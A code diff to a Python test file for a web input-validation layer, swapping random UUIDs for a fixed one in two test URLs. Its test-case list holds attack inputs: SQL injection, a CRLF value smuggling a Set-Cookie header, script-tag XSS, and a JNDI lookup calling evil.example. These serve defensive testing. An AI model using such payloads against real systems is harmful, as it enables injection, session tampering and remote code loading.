@@ -193,7 +193,7 @@ WAYS_IN: list[tuple[str, str, dict[str, Any], str]] = [
     ("GET", "/search", {"params": {MARKUP: ""}}, "#/query/*"),
     ("GET", "/search", {"params": {"q": "x\r\nSet-Cookie: a=b"}}, "#/query/q"),
     ("GET", "/filters", {"params": {"word": MARKUP}}, "#/query/word"),
-    ("GET", f"/by-name/a'%20or%20'1'='1/{uuid.uuid4()}", {}, "#/path/name"),
+    ("GET", "/by-name/a'%20or%20'1'='1/5a3c1d2e-8f40-4b7a-9c11-2d3e4f5a6b7c", {}, "#/path/name"),
     ("GET", "/files/a/<script>alert(1)<b>", {}, "#/path/path"),
     ("GET", "/nowhere/<script>alert(1)<b>", {}, "#/path"),
     ("GET", "/search", {"headers": {"user-agent": "${jndi:ldap://evil.example/a}"}}, "#/header/user-agent"),
@@ -685,7 +685,7 @@ def test_root_path_is_no_part_of_a_parameter() -> None:
     app = shop()
     harden(app, Settings(_env_file=None, input_validation={"mode": "enforce"}))
     client = TestClient(app, root_path="/proxy")
-    assert pointers(client.get(f"/by-name/<script>alert(1)<b>/{uuid.uuid4()}")) == {"#/path/name"}
+    assert pointers(client.get("/by-name/<script>alert(1)<b>/5a3c1d2e-8f40-4b7a-9c11-2d3e4f5a6b7c")) == {"#/path/name"}
 
 
 def test_without_a_bus_a_finding_is_still_logged(caplog: pytest.LogCaptureFixture) -> None:
